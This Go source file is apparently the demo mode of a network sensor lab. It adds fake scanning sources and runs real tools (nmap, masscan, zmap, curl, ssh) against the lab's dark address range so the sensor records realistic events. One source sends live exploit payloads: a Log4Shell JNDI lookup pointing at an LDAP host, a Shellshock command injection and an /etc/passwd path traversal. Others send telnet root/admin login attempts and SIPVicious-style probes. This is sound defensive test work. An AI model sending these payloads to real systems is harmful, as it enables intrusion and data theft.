// Package demo is what `vantage up --demo` adds to the lab
// (../shared/netlab): a geography for the lab's addresses (fiction, said
// so in the file), six more source addresses on the scanner host, and
// rounds of real tool traffic (zmap, masscan, nmap, curl, ssh, ping,
// python3 sockets) from each source at the sensor's dark range, so that
// the sensor views fill with events that real tools caused. Every command
// runs inside the lab's scanner namespace, is bounded in time, and sends
// only to the lab's dark range.
package demo

import (
	"context"
	_ "embed"
	"errors"
	"fmt"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/vantagehq/vantage/internal/lab"
)

// Overrides is the geography of the lab for the demo (enrich overrides).
//
//go:embed demo.overrides
var Overrides []byte

// The lab facts the demo uses beside those of package lab.
const (
	Dark      = "198.51.100.128/25" // the sensor's dark range
	SensorNS  = lab.NSSensor
	SensorIF  = "sensor0"
	SensorIP  = "198.51.100.2"
	Daemons   = "203.0.113.10-203.0.113.21"
	DaemonNet = "203.0.113.0/27"
	// DaemonPorts are the ports of the lab's twelve daemons (netlab README).
	DaemonPorts = "21,22,23,25,80,443,1883,3306,3389,5432,6379,11211"
	// BenignActor is the known benign scanner one source plays (its
	// address is given to the sensor as that actor's published range).
	BenignActor = "SHODAN"
)

// Source is one scanning host of the demo: an address on the scanner's
// interface, a (fictional) country, and what it does in each round.
type Source struct {
	Addr    netip.Addr
	Country string // as in demo.overrides
	Does    string // in words, for the operator
	cmds    func(src string, r int) [][]string
}

// Added reports whether the source is an address the demo adds (the
// scanner host's own address is there already).
func (s Source) Added() bool { return s.Addr.String() != lab.ScanIP }

// dark is the i-th address of the dark range (mod 128).
func dark(i int) string { return fmt.Sprintf("198.51.100.%d", 128+((i%128)+128)%128) }

const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"

// curl is one bounded HTTP request from src.
func curl(src string, args ...string) []string {
	return append([]string{"curl", "-s", "-m", "5", "-o", "/dev/null", "--interface", src}, args...)
}

// Python is a command that sends payloads over TCP or UDP from src ("":
// any) with python3 and reads what comes back, for protocols whose
// clients the lab does not install and for clients that cannot choose
// their source address. Payloads may hold \r, \n and \xNN escapes.
func Python(src, proto, dst string, port int, payloads ...string) []string {
	script := fmt.Sprintf(`import socket,sys,time
s=socket.socket(socket.AF_INET, socket.SOCK_%s)
s.settimeout(3)
s.bind((%q,0))
s.connect((%q,%d))
for p in sys.argv[1:]:
    s.send(p.encode('latin-1').decode('unicode_escape').encode('latin-1'))
    try: s.recv(4096)
    except Exception: pass
    time.sleep(0.2)
s.close()`, map[string]string{"tcp": "STREAM", "udp": "DGRAM"}[proto], src, dst, port)
	return append([]string{"python3", "-c", script}, payloads...)
}

// Sources are the demo's scanning hosts. The verdicts they earn differ:
// 192.0.2.11 is the known benign scanner, .13's exploits and .12's and
// .15's logins and SIPVicious are malicious, the plain scans unknown.
func Sources(blocklist string) []Source {
	a := netip.MustParseAddr
	return []Source{
		{a("192.0.2.10"), "US", "nmap SYN scans of a few dark addresses", func(src string, r int) [][]string {
			return [][]string{{"nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", "-S", src, "-e", lab.ScanIF,
				"-p", "22,80,443,3389,8080", dark(r * 5), dark(r*5 + 1), dark(r*5 + 70)}}
		}},
		{a("192.0.2.11"), "DE", "zmap over the whole dark range and polite HTTP (a known benign scanner)", func(src string, r int) [][]string {
			return [][]string{
				{"zmap", "-q", "-p", "80", "-r", "2000", "-i", lab.ScanIF, "-S", src, "-G", lab.GatewayMC, "-b", blocklist,
					"-c", "1", "-o", "/dev/null", Dark},
				curl(src, "-A", "Mozilla/5.0 (compatible; demo research scanner; +https://example.org/optout)", "http://"+dark(r*3+10)+"/"),
			}
		}},
		{a("192.0.2.12"), "CN", "masscan of six ports over a quarter of the range, telnet logins", func(src string, r int) [][]string {
			return [][]string{
				{"masscan", "198.51.100.192/27", "-p22,23,80,443,3389,6379", "--rate", "2000", "--adapter", lab.ScanIF,
					"--adapter-ip", src, "--adapter-mac", lab.ScanMAC, "--router-mac", lab.GatewayMC, "--wait", "1", "-oL", "/dev/null"},
				Python(src, "tcp", dark(r*7+20), 23, `root\r\n`, `admin\r\n`),
			}
		}},
		{a("192.0.2.13"), "RU", "web exploits: Log4Shell, Shellshock, path traversal", func(src string, r int) [][]string {
			return [][]string{
				curl(src, "-H", "X-Api-Version: ${jndi:ldap://198.51.100.1:1389/a}", "http://"+dark(r*11+30)+"/"),
				curl(src, "-A", "() { :; }; /bin/bash -c 'id'", "http://"+dark(r*11+31)+"/cgi-bin/status"),
				curl(src, "--path-as-is", "http://"+dark(r*11+32)+"/../../../../etc/passwd"),
			}
		}},
		{a("192.0.2.14"), "BR", "ssh clients and redis INFO", func(src string, r int) [][]string {
			return [][]string{
				{"ssh", "-b", src, "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
					"-o", "ConnectTimeout=5", "root@" + dark(r*13+40), "true"},
				Python(src, "tcp", dark(r*13+41), 6379, `*1\r\n$4\r\nINFO\r\n`),
			}
		}},
		{a("192.0.2.15"), "NL", "SIP OPTIONS in SIPVicious style, zgrab-style HTTP", func(src string, r int) [][]string {
			d := dark(r*17 + 90)
			return [][]string{
				Python(src, "udp", d, 5060, `OPTIONS sip:100@`+d+` SIP/2.0\r\nVia: SIP/2.0/UDP `+src+`:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\nFrom: "sipvicious"<sip:100@`+src+`>;tag=1\r\nTo: "sipvicious"<sip:100@`+src+`>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`),
				curl(src, "-A", "Mozilla/5.0 zgrab/0.x", "http://"+dark(r*17+91)+"/"),
			}
		}},
		{a("192.0.2.16"), "IN", "ping, nmap -sV, an RDP cookie, a browser", func(src string, r int) [][]string {
			return [][]string{
				{"ping", "-c", "2", "-W", "1", "-I", src, dark(r*19 + 100)},
				{"nmap", "-sV", "--version-light", "-Pn", "-n", "-S", src, "-e", lab.ScanIF, "-p", "80", dark(r*19 + 101)},
				Python(src, "tcp", dark(r*19+102), 3389, `\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00`),
				curl(src, "-A", browserUA, "http://"+dark(r*19+103)+"/"),
			}
		}},
	}
}

// Tools are the programs the rounds run.
var Tools = []string{"zmap", "masscan", "nmap", "curl", "ssh", "python3", "ping"}

// MissingTools lists the tools not installed (netlab deps installs them).
func MissingTools() []string {
	var missing []string
	for _, t := range Tools {
		if _, err := exec.LookPath(t); err != nil {
			missing = append(missing, t)
		}
	}
	return missing
}

// AddSources puts the added sources' addresses on the scanner's
// interface; the returned function removes them (call it even on error).
func AddSources(ctx context.Context, srcs []Source) (remove func() error, err error) {
	var added []string
	remove = func() error {
		var errs []error
		for _, a := range added {
			if out, err := exec.Command("ip", "-n", lab.NSScan, "addr", "del", a+"/24", "dev", lab.ScanIF).CombinedOutput(); err != nil {
				errs = append(errs, fmt.Errorf("remove %s from %s: %v: %s", a, lab.ScanIF, err, strings.TrimSpace(string(out))))
			}
		}
		added = nil
		return errors.Join(errs...)
	}
	for _, s := range srcs {
		if !s.Added() {
			continue
		}
		a := s.Addr.String()
		out, err := exec.CommandContext(ctx, "ip", "-n", lab.NSScan, "addr", "add", a+"/24", "dev", lab.ScanIF, "nodad").CombinedOutput()
		if err != nil && !strings.Contains(string(out), "File exists") { // left by a run that was killed
			return remove, fmt.Errorf("add %s to %s in %s: %v: %s", a, lab.ScanIF, lab.NSScan, err, strings.TrimSpace(string(out)))
		}
		added = append(added, a)
	}
	return remove, nil
}

// RoundResult says what one round ran.
type RoundResult struct {
	Commands int
	Failed   []string // commands that failed or timed out (a tool's exit status, which is often not an error here)
	Took     time.Duration
}

// Round runs round r of every source's commands inside the scanner's
// namespace: the sources in parallel, each source's commands one after the
// other, each command stopped after perCommand; tools that are missing are
// skipped. It returns when every command has ended.
func Round(ctx context.Context, srcs []Source, r int, perCommand time.Duration, skip map[string]bool) RoundResult {
	t0 := time.Now()
	var (
		mu  sync.Mutex
		res RoundResult
		wg  sync.WaitGroup
	)
	for _, s := range srcs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, c := range s.cmds(s.Addr.String(), r) {
				if ctx.Err() != nil || skip[c[0]] {
					continue
				}
				cctx, cancel := context.WithTimeout(ctx, perCommand)
				cmd := lab.Command(cctx, lab.NSScan, c[0], c[1:]...)
				cmd.WaitDelay = time.Second
				err := cmd.Run()
				cancel()
				mu.Lock()
				res.Commands++
				if err != nil {
					res.Failed = append(res.Failed, fmt.Sprintf("%s from %s: %v", c[0], s.Addr, err))
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	res.Took = time.Since(t0)
	return res
}
